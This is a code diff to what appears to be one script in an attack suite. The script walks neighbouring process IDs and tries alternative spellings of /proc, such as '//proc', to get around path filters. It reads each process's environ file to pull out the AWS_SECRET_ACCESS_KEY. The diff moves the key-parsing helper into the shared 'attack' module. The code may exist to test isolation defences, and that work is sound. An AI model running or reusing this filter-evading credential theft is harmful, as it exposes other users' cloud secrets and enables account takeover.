@@ -3,7 +3,7 @@
 Means: names of /proc that do not begin with "/proc". One that works is enough.
 """
 
-from attack import DONE, attempting, denied, loot, neighbours
+from attack import DONE, attempting, credential, denied, loot, neighbours
 
 SPELLINGS = (
     "//proc",
@@ -17,22 +17,14 @@ SPELLINGS = (
 )
 
 
-def credential(path):
-    """The credential in an environ file, or None."""
-    with open(path, "rb") as file:
-        for entry in file.read().split(b"\0"):
-            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
-                return entry
-    return None
-
-
 def run(brief):
     why = "nobody else in sight"
     attempting()
     for pid in neighbours(brief):
         for proc in SPELLINGS:
             try:
-                found = credential(f"{proc}/{pid}/environ")
+                with open(f"{proc}/{pid}/environ", "rb") as file:
+                    found = credential(file.read())
             except OSError as error:
                 why = error
                 continue
